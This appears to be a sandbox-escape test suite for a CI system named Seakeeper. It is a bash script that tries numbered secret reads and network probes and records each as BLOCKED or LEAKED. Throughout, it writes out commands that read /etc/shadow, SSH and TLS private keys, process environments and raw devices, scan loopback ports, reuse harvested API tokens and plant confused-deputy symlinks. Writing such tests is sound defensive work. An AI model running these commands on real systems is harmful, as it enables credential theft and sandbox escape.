#!/bin/bash
# Seakeeper attack suite: numbered attempts by an untrusted job to read a secret or to reach
# the network. Each attempt prints exactly one line
#   ATTEMPT <kind>.<name> BLOCKED <why>      or      ATTEMPT <kind>.<name> LEAKED <what>
# (kind: read | net), and the script ends with "ATTEMPTS DONE". AttackSuiteTest parses the log.
#
# usage: bash attack.sh [sandbox|reads-only|host-control]
#   sandbox       every attempt (what the untrusted check job runs)
#   reads-only    only the secret reads (what a trusted job, which has a network, runs)
#   host-control  only the attempts marked "control", run on the host outside the sandbox by the
#                 test as a positive control: there each of them must LEAK, which proves that the
#                 attempt aims at a real secret or listener and that its leak detector works.
# Targets come from attack.env next to this script (paths and ports of the test's canaries and
# listeners: the attacker is assumed to know the layout, only the values are secret). Canary
# values all start with the prefix SKCANARY and a dash (never written literally in this file, which
# is itself in the attacker's workspace); a secret without that prefix (the admin token) counts as
# leaked when its file can be read at all.
set -u
MODE=${1:-sandbox}
HERE=$(cd "$(dirname "$0")" && pwd)
set -a
. "$HERE/attack.env"
set +a
PREFIX=SKCANARY
SCRATCH=$(mktemp -d)

say() { echo "ATTEMPT $1 $2 $3"; }
# Printable, short, and never the raw content of a host file: only canary matches and sizes.
canaries() { grep -ao "$PREFIX-[A-Za-z0-9][A-Za-z0-9-]*" | sort -u | tr '\n' ' '; }
short() { tr -c '[:print:]' ' ' | head -c 160; }
wanted() {
  case "$MODE" in
    sandbox) return 0 ;;
    reads-only) [[ $1 == read.* ]] ;;
    *) [ "$2" = control ] ;;
  esac
}

# read_file ID control|- PATH: leaks when PATH can be read at all.
read_file() {
  wanted "$1" "$2" || return 0
  local got rc
  got=$(timeout 5 cat -- "$3" 2>&1 </dev/null)
  rc=$?
  if [ $rc -eq 0 ]; then
    say "$1" LEAKED "read $3 ($(printf %s "$got" | wc -c) bytes) $(printf %s "$got" | canaries)"
  else
    say "$1" BLOCKED "$(printf %s "$got" | short)"
  fi
}

# list_dir ID control|- DIR: leaks when DIR can be listed.
list_dir() {
  wanted "$1" "$2" || return 0
  local got
  if got=$(timeout 5 ls -A -- "$3" 2>&1); then
    say "$1" LEAKED "listed $3: $(printf %s "$got" | wc -l) entries"
  else
    say "$1" BLOCKED "$(printf %s "$got" | short)"
  fi
}

# hunt ID control|- COMMAND: leaks when the command's output holds a canary.
hunt() {
  wanted "$1" "$2" || return 0
  local got
  got=$(cd "$SCRATCH" && timeout 30 bash -c "$3" 2>/dev/null </dev/null | tr -d '\0')
  if printf %s "$got" | grep -aq "$PREFIX-[A-Za-z0-9]"; then
    say "$1" LEAKED "$(printf %s "$got" | canaries)"
  else
    say "$1" BLOCKED "no canary in $(printf %s "$got" | wc -c) bytes of output"
  fi
}

# tcp ID control|- HOST PORT: leaks when a connection opens (bash's /dev/tcp, no other tool).
tcp() {
  wanted "$1" "$2" || return 0
  local got
  got=$(timeout 8 bash -c 'exec 3<>"/dev/tcp/$0/$1" || exit 1; echo CONNECTED; echo "ATTACK $2" >&3; timeout 3 head -n1 <&3; exit 0' "$3" "$4" "$1" 2>&1)
  if printf %s "$got" | grep -q CONNECTED; then
    say "$1" LEAKED "connected to $3:$4 $(printf %s "$got" | tail -n1 | short)"
  else
    say "$1" BLOCKED "$(printf %s "$got" | tail -n1 | short)"
  fi
}

# py ID control|- CODE: python3 prints "LEAK: what" on success; anything else is blocked.
py() {
  wanted "$1" "$2" || return 0
  local got
  got=$(cd "$SCRATCH" && timeout 20 python3 -c "$3" "$1" 2>&1 </dev/null)
  if printf %s "$got" | grep -q '^LEAK:'; then
    say "$1" LEAKED "$(printf %s "$got" | grep '^LEAK:' | head -n1 | short)"
  else
    say "$1" BLOCKED "$(printf %s "$got" | tail -n1 | short)"
  fi
}

PY_TCP='
import os, socket, sys
fam = socket.AF_INET6 if ":" in os.environ["H"] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
s.connect((os.environ["H"], int(os.environ["P"])))
s.sendall(("ATTACK %s\n" % sys.argv[1]).encode())
print("LEAK: connected to %s:%s %r" % (os.environ["H"], os.environ["P"], s.recv(64)))'
PY_UDP='
import os, socket, sys
fam = socket.AF_INET6 if ":" in os.environ["H"] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(("ATTACK %s\n" % sys.argv[1]).encode(), (os.environ["H"], int(os.environ["P"])))
try:
    print("LEAK: reply from %s:%s %r" % (os.environ["H"], os.environ["P"], s.recv(64)))
except socket.timeout:
    print("sent, no reply (the listener on the host records any datagram that arrives)")'
PY_DNS='
import os, socket, struct, sys
q = struct.pack(">HHHHHH", 0x5eed, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in ("attack-" + sys.argv[1].replace(".", "-"), "seakeeper", "invalid")) + b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(q, (os.environ["H"], int(os.environ["P"])))
try:
    print("LEAK: DNS answer from %s %r" % (os.environ["H"], s.recv(512)[:32]))
except socket.timeout:
    print("sent, no answer")'

# The tools the attempts use; a missing one would make its attempts fail for the wrong reason.
echo "TOOLS $(for t in bash python3 curl git getent ip timeout grep; do command -v $t >/dev/null && printf '%s ' $t; done)"

# ---------------------------------------------------------------- secret reads
read_file read.data-dir-canary control "$DATA_CANARY"
read_file read.admin-token-file control "$TOKEN_FILE"
list_dir read.data-dir-listing control "$DATA_DIR"
hunt read.data-dir-grep control "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' '$DATA_DIR'"
list_dir read.data-dir-logs control "$DATA_DIR/logs"
read_file read.server-config control "$CONFIG_FILE"
list_dir read.config-dir-listing control "$(dirname "$CONFIG_FILE")"
read_file read.key-file control "$KEY_FILE"
hunt read.key-dir-grep control "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' '$(dirname "$KEY_FILE")'"
read_file read.proc1-root-data-canary - "/proc/1/root$DATA_CANARY"
read_file read.proc1-root-config - "/proc/1/root$CONFIG_FILE"
read_file read.proc1-root-key-file - "/proc/1/root$KEY_FILE"
read_file read.provenance-key-file control "$PROVENANCE_KEY_FILE"
read_file read.proc1-root-provenance-key - "/proc/1/root$PROVENANCE_KEY_FILE"
read_file read.proc1-root-tmp-canary - "/proc/1/root$TMP_CANARY"
hunt read.env - "env"
hunt read.proc-self-environ - "tr '\0' '\n' </proc/self/environ"
hunt read.proc1-environ - "tr '\0' '\n' </proc/1/environ"
hunt read.parent-environ - "tr '\0' '\n' </proc/$PPID/environ"
hunt read.all-proc-environ control "for f in /proc/[0-9]*/environ; do tr '\0' '\n' <\$f; done"
hunt read.all-proc-cmdline control "for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' <\$f; echo; done"
py read.pid-scan-environ - '
import os
found = []
for pid in range(1, 70000):
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            if ("SKCANARY" + "-").encode() in f.read():
                found.append(pid)
    except OSError:
        pass
print("LEAK: canary in environ of pids %s" % found if found else "no other process environment holds a canary")'
list_dir read.work-root-listing control "$WORK_ROOT"
list_dir read.trusted-workspaces-listing control "$WORK_ROOT/trusted"
hunt read.other-workspace-guess control "cat $WORK_ROOT/trusted/*/workspace/vault.txt $WORK_ROOT/trusted/*/*/workspace/vault.txt $WORK_ROOT/*/*/workspace/vault.txt"
list_dir read.same-tier-workspaces-listing control "$WORK_ROOT/untrusted"
hunt read.same-tier-workspace-guess control "cat $WORK_ROOT/untrusted/*/workspace/victim.txt $WORK_ROOT/untrusted/*/*/workspace/victim.txt"
hunt read.work-root-grep control "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' '$WORK_ROOT'"
hunt read.workspace-dotdot - "cat /workspace/../*/workspace/vault.txt /workspace/../../trusted/*/workspace/vault.txt"
read_file read.work-root-canary control "$WORKROOT_CANARY"
read_file read.host-tmp-canary control "$TMP_CANARY"
read_file read.host-shm-canary control "$SHM_CANARY"
read_file read.host-var-tmp-canary control "$VARTMP_CANARY"
hunt read.tmp-grep - "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' /tmp /var/tmp"
hunt read.dev-shm-grep - "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' /dev/shm"
hunt read.run-grep - "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' /run /var/run"
hunt read.home-root-grep - "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' /home /root"
hunt read.whole-tree-grep - "grep -rasoh --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev '$PREFIX-[A-Za-z0-9-]*' /"
hunt read.secrets-dir - "ls -la \"\${SEAKEEPER_SECRETS:-/run/seakeeper/secrets}\"; cat \"\${SEAKEEPER_SECRETS:-/run/seakeeper/secrets}\"/* /run/secrets/* /var/run/secrets/*/* 2>/dev/null"
hunt read.git-all-objects - "cd /workspace && git log --all --oneline -p; git cat-file --batch-all-objects --batch; cat .git/packed-refs .git/FETCH_HEAD"
hunt read.git-fetch-served-repo control "git init -q f && cd f && git fetch -q '$REPO_PATH' '$VAULT_REF' && git show FETCH_HEAD:.seakeeper.yaml"
list_dir read.served-repo-refs control "$REPO_PATH/refs/heads"
hunt read.open-fds - "for f in /proc/self/fd/*; do [ -f \"\$f\" ] && head -c 65536 \"\$f\"; done"
read_file read.etc-shadow - /etc/shadow
hunt read.host-tls-private-keys control "cat /etc/ssl/private/*"
hunt read.etc-grep - "grep -rasoh '$PREFIX-[A-Za-z0-9-]*' /etc"
hunt read.ssh-keys - "cat /etc/ssh/ssh_host_*_key /root/.ssh/id_* /home/*/.ssh/id_*; ls /etc/ssh /root/.ssh"
list_dir read.etc-seakeeper - /etc/seakeeper
read_file read.dev-mem - /dev/mem
hunt read.block-devices - "for d in /dev/sda /dev/vda /dev/xvda /dev/nvme0n1 /dev/dm-0; do head -c 4096 \$d && echo read \$d; done | grep -a '^read' | sed 's/^/$PREFIX-RAW-DEVICE /'"
read_file read.proc-kcore - /proc/kcore
hunt read.mountinfo-host-paths - "grep -a -e '$DATA_DIR' -e '$(dirname "$CONFIG_FILE")' /proc/self/mountinfo | sed 's/^/$PREFIX-MOUNT /'"
hunt read.api-builds-and-logs - "for b in \$(curl -s -m 3 'http://127.0.0.1:$SERVER_PORT/api/v1/builds?limit=50' | grep -o '\"id\":\"[^\"]*' | cut -d'\"' -f4); do curl -s -m 3 http://127.0.0.1:$SERVER_PORT/api/v1/builds/\$b/log; done"

# ---------------------------------------------------------------- network
tcp net.server-port-bash-tcp control 127.0.0.1 "$SERVER_PORT"
py net.api-with-found-token control '
import os, re, glob, urllib.request
tokens = set()
for f in [os.environ["TOKEN_FILE"]] + glob.glob(os.environ["DATA_DIR"] + "/*token*") + glob.glob("/workspace/**", recursive=True):
    try:
        tokens.update(re.findall(r"[A-Za-z0-9_-]{20,}", open(f, errors="replace").read()))
    except OSError:
        pass
tokens.update(v for v in os.environ.values() if len(v) >= 20)
# cancel of a build that does not exist: 401 without a valid token, 404 with one (no side effect)
url = "http://127.0.0.1:%s/api/v1/builds/attack-no-such-build/cancel" % os.environ["SERVER_PORT"]
body = b"{}"
status = []
for t in sorted(tokens)[:50] or ["guess"]:
    req = urllib.request.Request(url, data=body, headers={"Authorization": "Bearer " + t, "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=3) as r:
            print("LEAK: the API accepted a found token (%d)" % r.status)
            break
    except urllib.error.HTTPError as e:
        if e.code != 401:
            print("LEAK: the API accepted a found token (%d)" % e.code)
            break
        status.append(e.code)
    except OSError as e:
        status.append(str(e))
        break
print("tried %d tokens: %s" % (len(tokens), status[-1:]))'
hunt net.server-status-curl - "curl -s -m 3 http://127.0.0.1:$SERVER_PORT/api/v1/status && echo $PREFIX-API-REACHED"
hunt net.server-status-localhost-name - "curl -s -m 3 http://localhost:$SERVER_PORT/healthz && echo $PREFIX-API-REACHED"
tcp net.loopback4-bash-tcp control 127.0.0.1 "$LO4_TCP"
py net.loopback4-python-tcp control "$(printf 'import os; os.environ["H"]="127.0.0.1"; os.environ["P"]="%s"\n%s' "$LO4_TCP" "$PY_TCP")"
tcp net.loopback6-bash-tcp control ::1 "$LO6_TCP"
py net.loopback6-python-tcp control "$(printf 'import os; os.environ["H"]="::1"; os.environ["P"]="%s"\n%s' "$LO6_TCP" "$PY_TCP")"
py net.loopback4-udp control "$(printf 'import os; os.environ["H"]="127.0.0.1"; os.environ["P"]="%s"\n%s' "$LO4_UDP" "$PY_UDP")"
py net.loopback6-udp control "$(printf 'import os; os.environ["H"]="::1"; os.environ["P"]="%s"\n%s' "$LO6_UDP" "$PY_UDP")"
hunt net.loopback-port-scan - "for p in \$(seq 1 1024) $SERVER_PORT $LO4_TCP 5432 8080 8081 29418; do (exec 3<>/dev/tcp/127.0.0.1/\$p) 2>/dev/null && echo $PREFIX-OPEN-\$p; done"
py net.abstract-unix-socket control '
import os, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(3)
s.connect("\0" + os.environ["ABSTRACT_NAME"])
s.sendall(b"ATTACK net.abstract-unix-socket\n")
print("LEAK: connected to the abstract socket %r" % s.recv(64))'
py net.host-unix-socket-path control '
import os, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(3)
s.connect(os.environ["UNIX_PATH"])
s.sendall(b"ATTACK net.host-unix-socket-path\n")
print("LEAK: connected to %s %r" % (os.environ["UNIX_PATH"], s.recv(64)))'
hunt net.resolver-getent - "getent hosts attack.seakeeper.invalid localhost6 && echo; getent ahosts example.com | sed 's/^/$PREFIX-RESOLVED /'"
py net.resolver-python - '
import socket
try:
    print("LEAK: resolved %s" % socket.getaddrinfo("example.com", 80)[0][4][0])
except socket.gaierror as e:
    print("no name resolution: %s" % e)'
py net.dns-udp53-loopback-resolver - "$(printf 'import os; os.environ["H"]="127.0.0.53"; os.environ["P"]="53"\n%s' "$PY_DNS")"
py net.dns-udp-host-listener control "$(printf 'import os; os.environ["H"]="127.0.0.1"; os.environ["P"]="%s"\n%s' "$LO4_DNS" "$PY_DNS")"
py net.dns-udp53-veth control "$(printf 'import os; os.environ["H"]="%s"; os.environ["P"]="53"\n%s' "$VETH_ADDR" "$PY_DNS")"
py net.raw-icmp-socket control '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
print("LEAK: opened a raw ICMP socket")'
py net.packet-socket control '
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
print("LEAK: opened an AF_PACKET socket")'
py net.icmp-echo-veth control '
import os, socket, struct
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); return ~(s + (s >> 16)) & 0xffff
pkt = struct.pack("!BBHHH", 8, 0, 0, 0x5eed, 1) + b"seakeeper"
pkt = pkt[:2] + struct.pack("!H", csum(pkt + b"\0")) + pkt[4:]
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except OSError:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(2)
s.sendto(pkt, (os.environ["VETH_ADDR"], 0))
print("LEAK: echo reply from %s %r" % (os.environ["VETH_ADDR"], s.recv(64)[:8]))'
tcp net.veth-bash-tcp control "$VETH_ADDR" "$VETH_TCP"
py net.veth-python-tcp control "$(printf 'import os; os.environ["H"]="%s"; os.environ["P"]="%s"\n%s' "$VETH_ADDR" "$VETH_TCP" "$PY_TCP")"
py net.veth-udp control "$(printf 'import os; os.environ["H"]="%s"; os.environ["P"]="%s"\n%s' "$VETH_ADDR" "$VETH_UDP" "$PY_UDP")"
tcp net.veth-link-local-tcp control "$VETH_LL_ADDR" "$VETH_TCP"
tcp net.veth-host-side-tcp control "$VETH_HOST_ADDR" "$VETH_HOST_TCP"
hunt net.veth-curl - "curl -s -m 3 http://$VETH_ADDR:$VETH_TCP/ && echo $PREFIX-VETH-REACHED"
hunt net.interfaces - "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' ' | grep -v '^lo\$' | sed 's/^/$PREFIX-IFACE-/'"
hunt net.routes - "tail -n +2 /proc/net/route | sed 's/^/$PREFIX-ROUTE /'; grep -v '^00000000000000000000000000000001' /proc/net/ipv6_route | grep -v ' lo\$' | sed 's/^/$PREFIX-ROUTE6 /'"
hunt net.host-listening-sockets - "printf '%04X\n' $SERVER_PORT $LO4_TCP | while read p; do grep -i \":\$p \" /proc/net/tcp /proc/net/tcp6; done | sed 's/^/$PREFIX-SEES-HOST-SOCKET /'"
py net.bind-and-bring-up-interface - '
import subprocess
r = subprocess.run(["ip", "link", "add", "skattack0", "type", "dummy"], capture_output=True, text=True)
print("LEAK: created an interface" if r.returncode == 0 else "cannot change interfaces: %s" % r.stderr.strip())'

# ---------------------------------------------------------------- confused deputy
# Links for the server, which runs as root, to follow when it collects artifacts (out/**) or
# deletes this workspace; the test checks the artifacts and the targets afterwards.
if [ "$MODE" = sandbox ]; then
  mkdir -p out/nested
  echo "ARTIFACT-COLLECTED" > out/collected.txt
  for target in "$DATA_CANARY" "$TOKEN_FILE" "$KEY_FILE" "$CONFIG_FILE" "$TMP_CANARY" /etc/ssl/private "$DATA_DIR" "$(dirname "$KEY_FILE")" "$WORK_ROOT"; do
    n=$(printf %s "$target" | tr -c 'A-Za-z0-9' _)
    ln -sfn "$target" "out/link$n"
    ln -sfn "$target" "out/nested/link$n"
    ln -sfn "$target" "link$n"
    ln "$target" "out/hard$n" 2>/dev/null
  done
  chmod 000 out/nested
  echo "DEPUTY links planted: $(find . -type l 2>/dev/null | wc -l)"
fi

rm -rf "$SCRATCH"
echo "ATTEMPTS DONE"
